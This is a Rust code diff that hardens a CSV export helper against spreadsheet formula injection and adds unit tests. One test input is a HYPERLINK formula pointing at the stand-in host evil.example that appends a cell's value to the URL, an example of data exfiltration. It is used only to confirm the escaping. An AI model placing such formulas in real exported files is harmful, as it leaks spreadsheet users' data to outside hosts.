@@ -279,12 +279,8 @@ pub fn days(m: Option<(f64, u32)>) -> String {
 }
 
 fn csv_field(s: &str) -> String {
-    // Spreadsheets run cells starting with these as formulas.
-    let s = if s.starts_with(['=', '+', '-', '@']) {
-        format!("'{s}")
-    } else {
-        s.to_string()
-    };
+    // Spreadsheets run cells starting with `=`, `+`, `-`, `@`, a tab or a CR as formulas.
+    let s = platform::csv::neutralise(s);
     if s.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
@@ -449,5 +445,10 @@ mod tests {
         assert_eq!(csv_field("a,b"), "\"a,b\"");
         assert_eq!(csv_field("=SUM(A1)"), "'=SUM(A1)");
         assert_eq!(csv_field("plain"), "plain");
+        assert_eq!(csv_field("\tx"), "'\tx");
+        assert_eq!(
+            csv_field("-1+HYPERLINK(\"https://evil.example/?\"&I2;\"open\")"),
+            "\"'-1+HYPERLINK(\"\"https://evil.example/?\"\"&I2;\"\"open\"\")\""
+        );
     }
 }
